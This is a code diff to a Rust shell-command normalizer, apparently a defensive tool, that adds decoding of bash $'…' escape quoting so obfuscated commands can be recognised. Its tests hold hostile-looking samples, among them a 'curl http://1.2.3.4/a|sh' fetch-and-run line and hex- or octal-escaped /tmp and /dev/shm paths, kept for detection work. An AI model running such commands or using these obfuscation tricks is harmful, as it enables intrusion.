@@ -65,7 +65,7 @@ pub fn normalize_command(command: &str) -> Cow<'_, str> {
 }
 
 /// Removes quoting that only joins characters into one word, the way a shell reads it: the
-/// quote characters go, what they held stays. `${IFS}`/`$IFS` (a field separator attackers use
+/// quote characters go, what they held stays, and `$'…'` escapes are decoded. `${IFS}`/`$IFS` (a field separator attackers use
 /// instead of spaces) become a space.
 fn unquote(text: &str) -> Cow<'_, str> {
     if !text.contains(['\'', '"', '\\']) && !text.contains("$IFS") && !text.contains("${IFS}") {
@@ -86,10 +86,57 @@ fn unquote(text: &str) -> Cow<'_, str> {
                 None => out.push('\\'),
             },
             (_, '$') if ifs_follows(&mut chars) => out.push(' '),
+            (None, '$') if chars.peek() == Some(&'\'') => {
+                chars.next();
+                ansi_c(&mut chars, &mut out);
+            }
             (_, c) => out.push(c),
         }
     }
     Cow::Owned(out)
+}
+
+/// The body of bash's `$'…'` quoting, up to its closing quote: `\xHH`, `\NNN` (octal), `\n`,
+/// `\t` and the like decoded (`$'\x2ftmp\x2fx'` is `/tmp/x`). Decoded control characters are
+/// kept as they are; a NUL ends the word, as in bash.
+fn ansi_c(chars: &mut std::iter::Peekable<std::str::Chars<'_>>, out: &mut String) {
+    let mut ended = false;
+    while let Some(c) = chars.next() {
+        if c == '\'' {
+            return;
+        }
+        if c != '\\' {
+            if !ended {
+                out.push(c);
+            }
+            continue;
+        }
+        let decoded = match chars.next() {
+            Some('x') => {
+                let hex: String = std::iter::from_fn(|| chars.next_if(char::is_ascii_hexdigit))
+                    .take(2)
+                    .collect();
+                u8::from_str_radix(&hex, 16).ok().map(char::from)
+            }
+            Some(d @ '0'..='7') => {
+                let mut oct = String::from(d);
+                oct.extend(
+                    std::iter::from_fn(|| chars.next_if(|c| ('0'..='7').contains(c))).take(2),
+                );
+                u8::from_str_radix(&oct, 8).ok().map(char::from)
+            }
+            Some('n') => Some('\n'),
+            Some('t') => Some('\t'),
+            Some('r') => Some('\r'),
+            Some(other) => Some(other),
+            None => None,
+        };
+        match decoded {
+            Some('\0') => ended = true,
+            Some(ch) if !ended => out.push(ch),
+            _ => {}
+        }
+    }
 }
 
 /// After a `$`: consumes `IFS` or `{IFS}` (optionally with a `[*]`-free suffix like `IFS%??`
@@ -214,6 +261,8 @@ mod tests {
                 "curl http://1.2.3.4/a|sh",
             ),
             ("x=1;//tmp/a&&//tmp/b", "x=1;/tmp/a&&/tmp/b"),
+            ("$'\\x2ftmp\\x2fx' &", "/tmp/x &"),
+            ("$'\\057dev\\057shm/k'", "/dev/shm/k"),
         ] {
             assert_eq!(normalize_command(spelled), meant, "{spelled}");
         }
